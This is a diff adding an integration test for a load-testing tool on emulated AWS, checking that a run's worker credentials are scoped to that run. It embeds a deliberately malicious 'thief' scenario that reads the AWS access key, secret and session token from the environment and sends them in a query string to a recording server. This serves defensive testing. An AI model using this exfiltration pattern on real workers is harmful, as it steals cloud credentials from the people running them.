@@ -1,0 +1,193 @@
+import { IAMClient, UpdateAssumeRolePolicyCommand } from '@aws-sdk/client-iam'
+import { GetObjectCommand, ListObjectsV2Command, PutObjectCommand, S3Client } from '@aws-sdk/client-s3'
+import { SQSClient, SendMessageCommand } from '@aws-sdk/client-sqs'
+import { AssumeRoleCommand, STSClient } from '@aws-sdk/client-sts'
+import { rm, writeFile } from 'node:fs/promises'
+import { createServer } from 'node:http'
+import { join } from 'node:path'
+import { setTimeout as sleep } from 'node:timers/promises'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { encodeMessage } from '../../core/window/codec.ts'
+import type { RunPlan } from '../../core/plan/plan.ts'
+import type { Report } from '../../core/report/report.ts'
+import { runPolicy } from '../../functions/aws/run-credentials.ts'
+import { keys } from '../../functions/keys.ts'
+import { messageOf } from '../fixtures/windows.ts'
+import { ended, listening } from '../targets/server.ts'
+import { Account } from './account.ts'
+import type { Cloud } from './emulators/cloud.ts'
+import { startMiniStack } from './emulators/ministack.ts'
+import { type Person, newPerson } from './person.ts'
+
+interface Credentials {
+  accessKeyId: string
+  secretAccessKey: string
+  sessionToken: string
+}
+
+/** A target that keeps what a scenario tells it. */
+const told: Credentials[] = []
+const target = createServer((request, response) => {
+  const { searchParams } = new URL(request.url ?? '/', 'http://target')
+  const [accessKeyId = '', secretAccessKey = '', sessionToken = ''] = ['key', 'secret', 'token'].map(
+    (name) => searchParams.get(name) ?? '',
+  )
+  told.push({ accessKeyId, secretAccessKey, sessionToken })
+  response.end('ok')
+})
+
+let cloud: Cloud
+let account: Account
+let person: Person
+let report: Report
+
+/** A scenario that gives away what it finds in the environment of its worker. */
+const thief = `import { HttpUser, hold, ramp, scenario } from 'burst'
+class Thief extends HttpUser {
+  tasks = { tell: 1 }
+  async tell() {
+    const { AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY, AWS_SESSION_TOKEN } = process.env
+    const query = new URLSearchParams({ key: AWS_ACCESS_KEY_ID, secret: AWS_SECRET_ACCESS_KEY, token: AWS_SESSION_TOKEN })
+    await this.http.get('/?' + query, { name: '/' })
+    await this.sleep('1s')
+  }
+}
+export default scenario({ host: 'http://127.0.0.1:1', users: [Thief], load: [ramp(1, '0s'), hold('2s')] })
+`
+
+beforeAll(async () => {
+  cloud = await startMiniStack()
+  account = new Account(cloud)
+  person = await newPerson(cloud)
+  const origin = await listening(target)
+  await person.manages('deploy', '--yes', '--allow', cloud.targetHost)
+  await writeFile(join(person.folder, 'thief.burst.ts'), thief)
+  const { stdout } = await person.manages('run', 'thief.burst.ts', '--yes', '--json', '-H', origin)
+  report = JSON.parse(stdout) as Report
+}, 300_000)
+afterAll(async () => {
+  await ended(target)
+  await cloud?.stop()
+  if (person) await rm(person.folder, { recursive: true, force: true })
+}, 60_000)
+
+test('a run works with credentials of its own', () => {
+  expect(report.completeness).toMatchObject({ complete: true, lost: [], unreadable: 0 })
+  expect(report.totals.requests).toBeGreaterThan(0)
+})
+
+test("what a scenario finds in its worker's environment reaches no run, no list and no queue of messages", async () => {
+  const found = told[0]
+  if (!found?.accessKeyId) throw new Error('the scenario found no credentials')
+  const run = report.run.id
+  expect(await attempts(found, run)).toEqual({
+    plan: 'denied',
+    secret: 'denied',
+    control: 'denied',
+    claim: 'denied',
+    list: 'denied',
+    message: 'denied',
+  })
+})
+
+test('the credentials of a run reach that run, and no other', async () => {
+  await account.s3.send(new PutObjectCommand({ Bucket: await bucket(), Key: keys.plan('other'), Body: '{}' }))
+  await account.s3.send(new PutObjectCommand({ Bucket: await bucket(), Key: keys.secret('other'), Body: 's' }))
+  await account.s3.send(new PutObjectCommand({ Bucket: await bucket(), Key: keys.control('other'), Body: '{}' }))
+  const credentials = await credentialsOf(report.run.id)
+  const own = { plan: 'done', secret: 'done', control: 'done', claim: 'done', list: 'denied', message: 'done' }
+  expect(await attempts(credentials, report.run.id)).toEqual(own)
+  expect(await attempts(credentials, 'other')).toMatchObject({
+    plan: 'denied',
+    secret: 'denied',
+    control: 'denied',
+    claim: 'denied',
+  })
+})
+
+test('a message that nobody of the run has signed is set aside as unreadable', async () => {
+  const run = report.run.id
+  const forged = encodeMessage(messageOf({ run, build: report.run.build, sequence: 1000 }))
+  const before = await account.keys(keys.unreadables(run))
+  await send(account.sqs, run, forged)
+  let aside: string[] = []
+  while (aside.length === 0) {
+    aside = (await account.keys(keys.unreadables(run))).filter((key) => !before.includes(key))
+    await sleep(200)
+  }
+  expect(await account.object(aside[0] ?? '')).toContain('it is not signed by a worker of its run')
+})
+
+test("the run's secrets do not stand in what its plan shows", async () => {
+  const plan = JSON.parse(await account.object(keys.plan(report.run.id))) as RunPlan
+  expect(plan.signed).toBe(true)
+  expect(JSON.stringify(plan)).not.toContain(await account.object(keys.secret(report.run.id)))
+})
+
+/** What somebody with these credentials can do to a run. */
+async function attempts(credentials: Credentials, run: string): Promise<Record<string, string>> {
+  const settings = { ...account.settings, credentials }
+  const s3 = new S3Client({ ...settings, forcePathStyle: true })
+  const Bucket = await bucket()
+  const get = async (Key: string): Promise<string> => outcome(s3.send(new GetObjectCommand({ Bucket, Key })))
+  return {
+    plan: await get(keys.plan(run)),
+    secret: await get(keys.secret(run)),
+    control: await get(keys.control(run)),
+    claim: await outcome(s3.send(new PutObjectCommand({ Bucket, Key: keys.claim(run, 999, 0), Body: '{}' }))),
+    list: await outcome(s3.send(new ListObjectsV2Command({ Bucket }))),
+    message: await outcome(send(new SQSClient(settings), run, 'forged')),
+  }
+}
+
+/** Denied by AWS, or done: any other fault is the test's. */
+async function outcome(work: Promise<unknown>): Promise<string> {
+  try {
+    await work
+    return 'done'
+  } catch (error) {
+    if (/AccessDenied|not authorized/.test(`${(error as Error).name} ${(error as Error).message}`)) return 'denied'
+    throw error
+  }
+}
+
+async function send(sqs: SQSClient, run: string, body: string): Promise<void> {
+  const QueueUrl = await account.output('QueueUrl')
+  await sqs.send(
+    new SendMessageCommand({
+      QueueUrl,
+      MessageBody: body,
+      MessageGroupId: `${run}#0`,
+      MessageDeduplicationId: `${run}-${Math.random()}`,
+    }),
+  )
+}
+
+/** What the coordinator hands to the workers of a run; the test takes the coordinator's place in the role's trust. */
+async function credentialsOf(run: string): Promise<Credentials> {
+  const { bundle } = JSON.parse(await account.object(keys.plan(run))) as RunPlan
+  const places = {
+    role: 'arn:aws:iam::000000000000:role/burst-run-us-east-1',
+    bucketArn: `arn:aws:s3:::${await bucket()}`,
+    queueArn: `arn:aws:sqs:us-east-1:000000000000:${(await account.output('QueueUrl')).split('/').at(-1)}`,
+    keyArn: undefined,
+  }
+  await trustRoot(places.role.split('/').at(-1) ?? '')
+  const Policy = JSON.stringify(runPolicy(places, { run, bundle }))
+  const { Credentials } = await new STSClient(account.settings).send(
+    new AssumeRoleCommand({ RoleArn: places.role, RoleSessionName: 'test', Policy }),
+  )
+  const { AccessKeyId = '', SecretAccessKey = '', SessionToken = '' } = Credentials ?? {}
+  return { accessKeyId: AccessKeyId, secretAccessKey: SecretAccessKey, sessionToken: SessionToken }
+}
+
+async function trustRoot(RoleName: string): Promise<void> {
+  const Principal = { AWS: 'arn:aws:iam::000000000000:root' }
+  const trust = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'sts:AssumeRole', Principal }] }
+  const PolicyDocument = JSON.stringify(trust)
+  await new IAMClient(account.settings).send(new UpdateAssumeRolePolicyCommand({ RoleName, PolicyDocument }))
+}
+
+async function bucket(): Promise<string> {
+  return account.output('BucketName')
+}
